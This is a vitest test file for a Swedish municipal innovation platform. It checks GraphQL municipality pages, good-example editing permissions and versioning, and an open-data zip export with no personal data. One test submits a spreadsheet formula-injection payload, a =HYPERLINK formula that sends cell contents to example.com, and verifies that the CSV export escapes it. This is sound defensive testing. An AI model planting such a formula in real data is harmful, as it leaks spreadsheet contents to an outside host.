import { and, asc, desc, eq, isNotNull, sql } from "drizzle-orm";
import { unzipSync, strFromU8 } from "fflate";
import { describe, expect, it } from "vitest";
import { useTestServer } from "../../../test/support/app.js";
import { demo } from "../../../test/support/client.js";
import { resetDatabase, testDatabase } from "../../../test/support/database.js";
import { graphql } from "../../../test/support/graphql.js";
import { submittedIdea } from "../../../test/support/ideas.js";
import { toGlobalId } from "../../graphql/relay.js";
import { users } from "../accounts/accounts.tables.js";
import { ideaPlaces, ideas } from "../ideas/ideas.tables.js";
import { indicatorSeries, indicatorValues, indicators } from "../indicators/indicators.tables.js";
import { learnings } from "../learning/learning.tables.js";
import { arenas, organisations } from "../partnership/partnership.tables.js";
import { municipalityAdoptions } from "../scaling/scaling.tables.js";
import { goodExamples } from "./insight.tables.js";

const { client, url } = useTestServer();

const Page = graphql(`
  query MunicipalityPageTest($arena: String!, $municipality: String!) {
    municipalityPage(arena: $arena, municipality: $municipality) {
      municipality {
        id
        name
      }
      ideas {
        id
        title
        stage
      }
      adoptions {
        idea {
          id
        }
        status
      }
      goodExamples {
        id
        title
        funding
        results
        link
        version
      }
      viewerKeepsGoodExamples
      indicators {
        period
        indicator {
          key
        }
        municipality {
          areaCode
          value
          n
        }
        county {
          areaCode
          value
        }
        difference
      }
    }
  }
`);

const Municipalities = graphql(`
  query MunicipalitiesTest($slug: String!) {
    arena(slug: $slug) {
      municipalities {
        municipality {
          key
        }
        ideaCount
        adoptionCount
        goodExampleCount
      }
    }
  }
`);

const Create = graphql(`
  mutation CreateGoodExampleTest($input: CreateGoodExampleInput!) {
    createGoodExample(input: $input) {
      goodExample {
        id
        title
        version
      }
      errors {
        field
        code
      }
    }
  }
`);
const Update = graphql(`
  mutation UpdateGoodExampleTest($input: UpdateGoodExampleInput!) {
    updateGoodExample(input: $input) {
      goodExample {
        id
        title
        version
      }
      errors {
        code
      }
    }
  }
`);
const Delete = graphql(`
  mutation DeleteGoodExampleTest($id: ID!) {
    deleteGoodExample(id: $id) {
      deletedId
      errors {
        code
      }
    }
  }
`);

const Withdraw = graphql(`
  mutation WithdrawForPlaces($input: WithdrawIdeaInput!) {
    withdrawIdea(input: $input) {
      errors {
        code
      }
    }
  }
`);

const fieldsOf = ({ municipalityId: _m, ...rest }: { municipalityId: string } & Record<string, string>) => rest;
const published = and(eq(ideas.visibility, "public"), sql`${ideas.stage} not in ('draft', 'withdrawn')`);

async function orgId(arena: string, key: string) {
  const db = (await testDatabase()).db;
  const [o] = await db.select({ id: organisations.id }).from(organisations).where(eq(organisations.key, key));
  void arena;
  return o!.id;
}

describe("municipality pages", () => {
  it("list exactly the published ideas located in the municipality and the adoptions recorded there", async () => {
    await resetDatabase({ ideas: true });
    const db = (await testDatabase()).db;
    const hofors = await orgId("gavleborg", "hofors-kommun");
    const located = await db
      .select({ id: ideas.id, visibility: ideas.visibility, stage: ideas.stage })
      .from(ideaPlaces)
      .innerJoin(ideas, eq(ideas.id, ideaPlaces.ideaId))
      .where(eq(ideaPlaces.organisationId, hofors));
    const expected = located.filter((i) => i.visibility === "public" && i.stage !== "draft" && i.stage !== "withdrawn");
    expect(expected.length).toBeGreaterThan(0);
    const adopted = await db
      .select({ id: municipalityAdoptions.ideaId, status: municipalityAdoptions.status })
      .from(municipalityAdoptions)
      .innerJoin(ideas, eq(ideas.id, municipalityAdoptions.ideaId))
      .where(and(eq(municipalityAdoptions.organisationId, hofors), published));

    // The same page for a visitor and for staff: the public's view.
    for (const who of [client(), await client().signInAs(demo.coordinator)]) {
      const r = await who.ok(Page, { arena: "gavleborg", municipality: "hofors-kommun" });
      const page = r.municipalityPage!;
      expect(page.municipality.name).toBe("Hofors kommun");
      expect(page.ideas.map((i) => i.id).sort()).toEqual(expected.map((i) => toGlobalId("Idea", i.id)).sort());
      expect(page.adoptions.map((a) => [a.idea.id, a.status.toLowerCase()]).sort()).toEqual(
        adopted.map((a) => [toGlobalId("Idea", a.id), a.status]).sort(),
      );
    }
    expect((await client().ok(Page, { arena: "gavleborg", municipality: "region-gavleborg" })).municipalityPage).toBeNull();
    expect((await client().ok(Page, { arena: "dalarna", municipality: "hofors-kommun" })).municipalityPage).toBeNull();

    const list = (await client().ok(Municipalities, { slug: "gavleborg" })).arena!.municipalities;
    expect(list).toHaveLength(10);
    expect(list.find((m) => m.municipality.key === "hofors-kommun")?.ideaCount).toBe(expected.length);
  });

  it("show a new idea located there at once, and drop it when it is withdrawn, though pages are cached", async () => {
    const hofors = toGlobalId("Organisation", await orgId("gavleborg", "hofors-kommun"));
    const visitor = client();
    const listed = async () =>
      (await visitor.ok(Page, { arena: "gavleborg", municipality: "hofors-kommun" })).municipalityPage!.ideas.map((i) => i.title);
    const before = await listed();
    const bearer = await client().signInAs(demo.bearer);
    const idea = await submittedIdea(bearer, { title: "Cykelbibliotek i Hofors", visibility: "PUBLIC", municipalityIds: [hofors] });
    expect(await listed()).toEqual(["Cykelbibliotek i Hofors", ...before]);
    const { withdrawIdea } = await bearer.ok(Withdraw, { input: { id: idea.id } });
    expect(withdrawIdea.errors).toEqual([]);
    expect(await listed()).toEqual(before);
  });

  it("show the municipality's indicators against the county: the newest year of each indicator's first series", async () => {
    await resetDatabase({ ideas: true });
    const db = (await testDatabase()).db;
    const [arena] = await db.select().from(arenas).where(eq(arenas.slug, "gavleborg"));
    const hofors = await orgId("gavleborg", "hofors-kommun");
    const [org] = await db.select().from(organisations).where(eq(organisations.id, hofors));
    const stored = (areaCode: string) =>
      db
        .select({
          key: indicators.key,
          seriesId: indicatorSeries.id,
          created: indicatorSeries.createdAt,
          period: indicatorValues.period,
          value: indicatorValues.value,
          n: indicatorValues.n,
        })
        .from(indicatorValues)
        .innerJoin(indicatorSeries, eq(indicatorSeries.id, indicatorValues.seriesId))
        .innerJoin(indicators, eq(indicators.id, indicatorSeries.indicatorId))
        .where(and(eq(indicators.arenaId, arena!.id), eq(indicatorValues.areaCode, areaCode), eq(indicatorValues.breakdown, "total")))
        .orderBy(asc(indicatorSeries.createdAt), desc(indicatorValues.period));
    const own = await stored(org!.municipalityCode!);
    const county = await stored(arena!.countyCode!);
    expect(own.length).toBeGreaterThan(0);
    // Per indicator: its first series, that series' newest year.
    const expected = new Map<string, (typeof own)[number]>();
    for (const r of own) if (!expected.has(r.key)) expected.set(r.key, r);

    const r = await client().ok(Page, { arena: "gavleborg", municipality: "hofors-kommun" });
    const rows = r.municipalityPage!.indicators;
    expect(rows.map((c) => c.indicator.key).sort()).toEqual([...expected.keys()].sort());
    const skr03 = rows.find((c) => c.indicator.key === "skr-03")!;
    const want = expected.get("skr-03")!;
    expect([skr03.period, skr03.municipality.areaCode, skr03.municipality.value, skr03.municipality.n]).toEqual([
      want.period,
      "2104",
      want.value,
      want.n,
    ]);
    const countyValue = county.find((c) => c.seriesId === want.seriesId && c.period === want.period)!;
    expect(skr03.county).toEqual({ areaCode: arena!.countyCode, value: countyValue.value });
    expect(skr03.difference).toBeCloseTo(want.value - countyValue.value, 9);

    // Another arena's municipality has its own, and a page that is not there has none.
    expect((await client().ok(Page, { arena: "dalarna", municipality: "hofors-kommun" })).municipalityPage).toBeNull();
  });

  it("show the Dalarna report's good examples, which the arena's kansli adds, edits and removes", async () => {
    await resetDatabase({ ideas: true });
    const mora = (await client().ok(Page, { arena: "dalarna", municipality: "mora-kommun" })).municipalityPage!;
    expect(mora.viewerKeepsGoodExamples).toBe(false);
    expect(mora.goodExamples.map((g) => g.title)).toEqual(["Idéfond för omställning till Hållbara Mora"]);
    expect(mora.goodExamples[0]!.funding).toContain("5 miljoner kronor");
    const leksand = (await client().ok(Page, { arena: "dalarna", municipality: "leksands-kommun" })).municipalityPage!;
    expect(leksand.goodExamples[0]!.results).toContain("33");

    const kansli = await client().signInAs(demo.dalarnaCoordinator);
    const input = {
      municipalityId: mora.municipality.id,
      title: "Mötesplats för unga",
      partners: "Fritidsgården",
      funding: "Kommunen",
      results: "",
      summary: "",
      link: "inte en adress",
    };
    const bad = await kansli.ok(Create, { input });
    expect(bad.createGoodExample.errors).toEqual([{ field: "input.link", code: "INVALID_URL" }]);
    const db = (await testDatabase()).db;
    const count = async () => (await db.select().from(goodExamples)).length;
    const before = await count();
    const region = toGlobalId("Organisation", await orgId("dalarna", "region-dalarna"));
    expect((await kansli.ok(Create, { input: { ...input, link: "", municipalityId: region } })).createGoodExample.errors[0]?.code).toBe(
      "GOOD_EXAMPLE_MUNICIPALITY",
    );
    // Gävleborg's kansli keeps no Dalarna pages.
    const other = await (await client().signInAs(demo.coordinator)).request(Create, { input: { ...input, link: "" } });
    expect(other.errors?.[0]?.extensions?.code).toBe("FORBIDDEN");
    expect(await count()).toBe(before);

    const made = (await kansli.ok(Create, { input: { ...input, link: "https://mora.se" } })).createGoodExample.goodExample!;
    expect(made.version).toBe(1);
    const edited = await kansli.ok(Update, {
      input: { ...fieldsOf(input), link: "", id: made.id, expectedVersion: 1, title: "Mötesplats för unga 16–25" },
    });
    expect(edited.updateGoodExample.goodExample).toMatchObject({ title: "Mötesplats för unga 16–25", version: 2 });
    const stale = await kansli.ok(Update, { input: { ...fieldsOf(input), link: "", id: made.id, expectedVersion: 1, title: "Gammal" } });
    expect(stale.updateGoodExample.errors.map((e) => e.code)).toEqual(["GOOD_EXAMPLE_STALE"]);
    const page = (await kansli.ok(Page, { arena: "dalarna", municipality: "mora-kommun" })).municipalityPage!;
    expect(page.viewerKeepsGoodExamples).toBe(true);
    expect(page.goodExamples.map((g) => g.title)).toEqual(["Idéfond för omställning till Hållbara Mora", "Mötesplats för unga 16–25"]);
    expect((await kansli.ok(Delete, { id: made.id })).deleteGoodExample.deletedId).toBe(made.id);
    expect(await count()).toBe(before);
    const after = (await kansli.ok(Page, { arena: "dalarna", municipality: "mora-kommun" })).municipalityPage!;
    expect(after.goodExamples.map((g) => g.title)).toEqual(["Idéfond för omställning till Hållbara Mora"]);
  });
});

const Unpublish = graphql(`
  mutation UnpublishForOpenData($id: ID!) {
    unpublishLearning(id: $id) {
      errors {
        code
      }
    }
  }
`);

describe("open data", () => {
  it("guards text a spreadsheet would run as a formula: an idea titled =HYPERLINK(...) comes out as text", async () => {
    const bearer = await client().signInAs(demo.bearer);
    const title = '=HYPERLINK("https://example.com/?q="&A1,"Klicka")';
    await submittedIdea(bearer, { title, summary: "-1 kronor per deltagare", visibility: "PUBLIC" });
    const files = unzipSync(new Uint8Array(await (await fetch(`${url()}/open-data/all.zip`)).arrayBuffer()));
    const csv = strFromU8(files["ideas.csv"]!);
    expect(csv).toContain(`,"'=HYPERLINK(""https://example.com/?q=""&A1,""Klicka"")",'-1 kronor per deltagare,`);
    expect(csv).not.toContain(`,"=HYPERLINK(`);
    // data.json is no spreadsheet: the title as written.
    const json = JSON.parse(strFromU8(files["data.json"]!)) as { ideas: { title: string }[] };
    expect(json.ideas.map((i) => i.title)).toContain(title);
  });

  it("downloads published ideas, learnings and public decisions as CSV and JSON in one zip, without personal data, with an ETag", async () => {
    await resetDatabase({ ideas: true });
    const db = (await testDatabase()).db;
    const res = await fetch(`${url()}/open-data/all.zip`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("application/zip");
    const etag = res.headers.get("etag")!;
    expect(etag).toMatch(/^"[0-9a-f]{40}"$/);
    const files = unzipSync(new Uint8Array(await res.arrayBuffer()));
    expect(Object.keys(files).sort()).toEqual([
      "LICENSE.txt",
      "README.md",
      "data.json",
      "decisions.csv",
      "ideas.csv",
      "indicator_values.csv",
      "learnings.csv",
    ]);
    const text = (f: string) => strFromU8(files[f]!);
    expect(text("LICENSE.txt")).toContain("CC BY 4.0");
    expect(text("README.md")).toContain("| bearer_sector |");
    const header = (f: string) =>
      text(f)
        .replace(/^\uFEFF/, "")
        .split("\r\n")[0];
    expect(header("ideas.csv")).toBe(
      "id,arena,title,summary,need,target_group,solution,expected_benefit,stage,bearer_sector,submitted_on,municipalities,county_parts,strategic_goals",
    );
    expect(header("learnings.csv")).toBe("id,arena,idea_id,outcome,title,body,target_group,published_on");
    expect(header("decisions.csv")).toBe("id,arena,matter_number,matter_kind,matter_title,body,outcome,text,decided_on");
    const valueColumns = "arena,indicator_key,indicator_title,series,area_code,period,breakdown,breakdown_label,value,n";
    expect(header("indicator_values.csv")).toBe(valueColumns);
    for (const c of valueColumns.split(",")) expect(text("README.md")).toContain(`| ${c} |`);
    expect(text("README.md")).toContain("## indicator_values.csv");

    const json = JSON.parse(text("data.json")) as { ideas: { id: string }[]; learnings: { id: string }[]; decisions: unknown[] };
    const publishedIds = await db.select({ id: ideas.id }).from(ideas).where(published);
    expect(json.ideas.map((i) => i.id).sort()).toEqual(publishedIds.map((i) => toGlobalId("Idea", i.id)).sort());
    const publishedLearnings = await db.select({ id: learnings.id }).from(learnings).where(isNotNull(learnings.publishedAt));
    expect(json.learnings).toHaveLength(publishedLearnings.length);
    expect(json.decisions.length).toBeGreaterThan(0);

    // Every stored indicator value, once, in the CSV and in data.json: Hofors' newest N15419 value among them.
    const stored = await db
      .select({
        key: indicators.key,
        series: indicatorSeries.name,
        areaCode: indicatorValues.areaCode,
        period: indicatorValues.period,
        breakdown: indicatorValues.breakdown,
        label: indicatorValues.breakdownLabel,
        value: indicatorValues.value,
        n: indicatorValues.n,
      })
      .from(indicatorValues)
      .innerJoin(indicatorSeries, eq(indicatorSeries.id, indicatorValues.seriesId))
      .innerJoin(indicators, eq(indicators.id, indicatorSeries.indicatorId));
    expect(stored.length).toBeGreaterThan(0);
    const values = (json as unknown as { indicator_values: Record<string, string | number | null>[] }).indicator_values;
    expect(values).toHaveLength(stored.length);
    expect(text("indicator_values.csv").replace(/\r\n$/, "").split("\r\n")).toHaveLength(stored.length + 1);
    const hofors = stored.filter((v) => v.series === "Kolada N15419" && v.areaCode === "2104" && v.breakdown === "total");
    const newest = hofors.reduce((a, b) => (b.period > a.period ? b : a));
    const inJson = values.filter(
      (v) => v.series === "Kolada N15419" && v.area_code === "2104" && v.period === newest.period && v.breakdown === "total",
    );
    expect(inJson).toEqual([
      {
        arena: "gavleborg",
        indicator_key: "skr-03",
        indicator_title: expect.any(String) as string,
        series: "Kolada N15419",
        area_code: "2104",
        period: newest.period,
        breakdown: "total",
        breakdown_label: "",
        value: newest.value,
        n: newest.n,
      },
    ]);
    expect(text("indicator_values.csv")).toContain(`,Kolada N15419,2104,${newest.period},total,,${newest.value},${newest.n ?? ""}\r\n`);

    // Nobody's name or address is inside, whatever file.
    const everything = Object.keys(files).map(text).join("\n").toLowerCase();
    const people = await db.select({ name: users.name, email: users.email }).from(users);
    for (const p of people) {
      expect(everything).not.toContain(p.email.toLowerCase());
      expect(everything).not.toContain(p.name.toLowerCase());
    }

    // Unchanged: 304, and the archive is not built again.
    const again = await fetch(`${url()}/open-data/all.zip`, { headers: { "if-none-match": etag } });
    expect(again.status).toBe(304);
    // A change anyone can see regenerates it: a learning taken back from the library.
    const learningId = toGlobalId("Learning", publishedLearnings[0]!.id);
    const team = await client().signInAs(demo.admin);
    expect((await team.ok(Unpublish, { id: learningId })).unpublishLearning.errors).toEqual([]);
    const changed = await fetch(`${url()}/open-data/all.zip`, { headers: { "if-none-match": etag } });
    expect(changed.status).toBe(200);
    expect(changed.headers.get("etag")).not.toBe(etag);
    const after = JSON.parse(strFromU8(unzipSync(new Uint8Array(await changed.arrayBuffer()))["data.json"]!)) as {
      learnings: { id: string }[];
    };
    expect(after.learnings.map((l) => l.id)).not.toContain(learningId);

    // Per arena, and nothing for an unknown one.
    const dalarna = await fetch(`${url()}/open-data/dalarna.zip`);
    const dj = JSON.parse(strFromU8(unzipSync(new Uint8Array(await dalarna.arrayBuffer()))["data.json"]!)) as {
      ideas: { arena: string }[];
    };
    expect(new Set(dj.ideas.map((i) => i.arena))).toEqual(new Set(["dalarna"]));
    expect((await fetch(`${url()}/open-data/nowhere.zip`)).status).toBe(404);
  });
});
